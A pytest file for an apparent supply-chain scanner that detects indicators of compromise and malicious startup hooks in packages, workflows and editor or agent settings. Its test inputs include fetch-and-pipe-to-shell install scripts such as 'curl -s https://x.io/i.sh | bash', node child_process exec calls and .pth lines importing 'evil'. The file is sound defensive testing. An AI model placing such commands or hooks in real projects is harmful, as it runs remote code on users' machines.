"""Marks of waves: what the inspectors extract and find, and what the waves match."""

from __future__ import annotations

import hashlib
import time
from pathlib import Path

import pytest

from mlsbom.blob import BytesBlob
from mlsbom.budget import Budget
from mlsbom.errors import ReadError
from mlsbom.inspectors import Context, Yield
from mlsbom.inspectors.code import hooks, indicators
from mlsbom.knowledge import Packs
from mlsbom.model import Finding, Mark, Shortfall
from mlsbom.packages import waves
from mlsbom.packages.indicators import Known
from mlsbom.scan import Settings, scan

PACKS = Packs()


def look(module: object, content: str | bytes, path: str, formats: tuple[str, ...] = ("python",)) -> list[Yield]:
    raw = content.encode() if isinstance(content, str) else content
    context = Context(packs=PACKS, budget=Budget(), path=path, formats=formats)
    return list(module.inspect(BytesBlob(raw, path.rsplit("/", 1)[-1]), context))  # type: ignore[attr-defined]


def rules(module: object, content: str, path: str) -> list[str]:
    return [x.rule for x in look(module, content, path) if isinstance(x, Finding)]


@pytest.mark.parametrize(
    ("text", "kind", "found"),
    [
        ('u = "https://user:pw@Evil.Example.net:8080/x?a=b"', "host", "evil.example.net"),
        ("hxxps://evil[.]example[.]net", "host", "evil.example.net"),
        ('host="sub.evil.io"', "host", "sub.evil.io"),
        ("connect('10.20.30.40', 80)", "address", "10.20.30.40"),
        ("10[.]20[.]30[.]40", "address", "10.20.30.40"),
        ("systemctl start pgsql-monitor.service", "literal", "pgsql-monitor.service"),
        ("cat ~/.local/share/kitty/cat.py", "literal", "/.local/share/kitty/cat.py"),
    ],
)
def test_marks_are_extracted(text: str, kind: str, found: str) -> None:
    marks = [(m.kind, m.text) for m in look(indicators, "x = 1\n" + text, "a.py") if isinstance(m, Mark)]
    assert (kind, found) in marks


@pytest.mark.parametrize(
    "text", ["import os.path", 'open("model.safetensors")', "version 1.2.3", "1111.2.3.4", "300.1.2.3", "'torch.nn'[0]", "1.2.3.4.5"]
)
def test_what_is_no_address_is_no_mark(text: str) -> None:
    marks = [m for m in look(indicators, text, "a.py") if isinstance(m, Mark) and m.kind in ("address",)]
    assert marks == []


def test_lines_and_pieces() -> None:
    marks = [m for m in look(indicators, "\n\n" + "x" * 50 + "\nhttps://a.example.io\n", "a.py") if isinstance(m, Mark)]
    assert [m.evidence.line for m in marks] == [4]
    far = b"a" * (indicators.PIECE - 10) + b"pgsql-monitor.service" + b"b" * 100
    assert any(
        m.text == "pgsql-monitor.service"
        for m in look(indicators, far.replace(b"b", b" ").replace(b"a", b" "), "a.txt")
        if isinstance(m, Mark)
    )


def test_a_cap_that_was_hit_is_a_shortfall() -> None:
    found = look(indicators, "\n".join(f"https://h{n}.example.io/" for n in range(1100)), "a.py")
    assert sum(isinstance(x, Mark) for x in found) == indicators.MOST
    assert isinstance(found[-1], Shortfall)


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        ("import os; exec('x')", True),
        ("import mystartup", True),
        ("import _virtualenv; import evil", True),
        ("import _virtualenv", False),
        ("./src", False),
        ("import __editable___foo_1_finder; __editable___foo_1_finder.install()", False),
        ("import __editable___a; __editable___b.install()", True),
        (
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
            False,
        ),
        (
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('evil').add_shim(); ",
            True,
        ),
    ],
)
def test_path_files(line: str, fires: bool) -> None:
    assert bool(rules(hooks, line + "\n", "x.pth")) == fires


def test_a_checkpoint_is_no_path_file() -> None:
    assert look(hooks, b"PK\x03\x04\0\0\0import os\n", "model.pth") == []


@pytest.mark.parametrize(
    ("command", "fires"),
    [
        ("node setup_bun.js", True),
        ("curl -s https://x.io/i.sh | bash", True),
        ("node -e \"require('child_process').exec('x')\"", True),
        ("bun run index.js", True),
        ("node-gyp rebuild", False),
        ("husky install", False),
        ("prebuild-install || node-gyp rebuild", False),
        ("tsc", False),
        ("npm run build", False),
        ("./tools/setup", True),
    ],
)
def test_install_scripts(command: str, fires: bool) -> None:
    text = '{"name": "x", "scripts": {"preinstall": ' + hooks.json.dumps(command) + "}}"
    found = look(hooks, text, "package.json")
    assert bool([x for x in found if isinstance(x, Finding)]) == fires
    assert [m.text for m in found if isinstance(m, Mark)] == [f"preinstall: {command}"]


@pytest.mark.parametrize(
    ("command", "fires"),
    [
        ("node -p \\\"require('node-addon-api').include\\\"", False),
        ("pkg-config --cflags glib-2.0", False),
        ("node -e \\\"require('nan')\\\"", False),
        ("node index.js", False),
        ("curl x | sh", True),
        ("node a.js > /dev/null && echo b", True),
    ],
)
def test_gyp_commands(command: str, fires: bool) -> None:
    assert bool(rules(hooks, '{"targets": [{"sources": ["<!(' + command + ')"]}]}', "binding.gyp")) == fires


def test_workflows() -> None:
    stranger = (
        "name: ci\non: pull_request_target\nsteps:\n- uses: actions/checkout@v4\n  with: {ref: ${{ github.event.pull_request.head.sha }}}\n"
    )
    assert rules(hooks, stranger, ".github/workflows/ci.yml") == ["WORKFLOW-DANGEROUS"]
    assert rules(hooks, stranger.replace("pull_request_target", "pull_request"), ".github/workflows/ci.yml") == []
    assert rules(hooks, "name: Run Copilot\non: push\n", ".github/workflows/codeql.yml") == ["WORKFLOW-DANGEROUS"]
    assert rules(hooks, "name: CodeQL\nuses: github/codeql-action/init@v3\n", ".github/workflows/codeql.yml") == []


def test_hooks_of_agents_and_editors() -> None:
    agent = '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "node .claude/setup.mjs"}]}]}}'
    assert rules(hooks, agent, ".claude/settings.json") == ["AGENT-HOOK"]
    assert rules(hooks, '{"hooks": {}, "model": "x"}', ".claude/settings.json") == []
    task = '{// a comment\n"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}},]}'
    assert rules(hooks, task, ".vscode/tasks.json") == ["AGENT-HOOK"]


def test_hosts_match_at_labels_alone() -> None:
    known = Known(waves.load(PACKS))
    domains = {text for w in waves.load(PACKS).values() for kind, text in w.indicators if kind == "domain"}
    for domain in domains:
        assert known.host(domain) and known.host("a.b." + domain.upper())
        assert known.host("x" + domain) is None
        assert known.host(domain + ".example.org") is None


def test_every_indicator_is_of_use() -> None:
    """Each published indicator is matched somehow: as a digest, host, address, dependency, file, script or string, or by a rule of its class."""
    known = Known(waves.load(PACKS))
    by_class = {
        "*.pth startup hook in wheel",
        "<name>-setup.pth + _index.js in wheel",
        "binding.gyp with command substitution <!( )",
        ".claude/settings.json SessionStart hook",
        ".vscode/tasks.json runOn folderOpen",
        '.github/workflows/codeql.yml named "Run Copilot"',
    }
    for wave in waves.load(PACKS).values():
        for kind, text in wave.indicators:
            if text in by_class:
                continue
            low = text.lower()
            tables = (known._digests, known._hosts, known._addresses, known._dependencies, known._files, known._literals, known._scripts)
            paths = (low, low.removeprefix("~"), low.split(" ")[0])
            assert any(p in table for p in paths for table in tables), (wave.slug, kind, text)


def test_a_digest_of_a_wave_is_critical(tmp_path: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "a.js").write_text("payload")
    digest = hashlib.sha256(b"payload").hexdigest()
    monkeypatch.setattr(Known, "digest", lambda self, sha256: "hades" if sha256 == digest else None)
    found = [f for f in scan(str(tmp_path), settings).findings if f.rule == "PACKAGE-INDICATOR"]
    assert [(f.severity, f.where.path) for f in found] == [("critical", "a.js")]


def test_prose_is_told_from_code(tmp_path: Path, settings: Settings) -> None:
    (tmp_path / "NOTES.md").write_text("Seen: hxxps://t[.]m-kosche[.]com\n")
    (tmp_path / "run.js").write_text("fetch('https://t.m-kosche.com/x')\n")
    found = {f.where.path: f.severity for f in scan(str(tmp_path), settings).findings if f.rule == "PACKAGE-INDICATOR"}
    assert found == {"NOTES.md": "info", "run.js": "high"}


ODD = [
    "import os;\n" * 3000,
    "<!(" * 5000,
    '{"hooks": ' * 5000,
    '{"tasks": 1}',
    '{"tasks": [1, {"runOptions": {"runOn": "folderOpen"}, "args": 3}]}',
    "[]",
    "/*" * 5000,
    '{"hooks": {"a": [{"hooks": 3}]}}',
    '{"scripts": {"install": "' + "curl " * 5000 + '"}}',
    '{"scripts": 3}',
    "a." * 5000,
    "1." * 5000,
    "'" + "a-" * 5000,
    "\x00\xff",
]
NAMES = ["x.pth", "binding.gyp", "package.json", ".github/workflows/codeql.yml", ".claude/settings.json", ".vscode/tasks.json", "a.py"]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("text", ODD, ids=range(len(ODD)))
def test_odd_files_end_in_facts_or_our_error(text: str, name: str) -> None:
    started = time.process_time()
    try:
        look(indicators if name.endswith(".py") else hooks, text, name)
    except ReadError:
        pass
    assert time.process_time() - started < 2
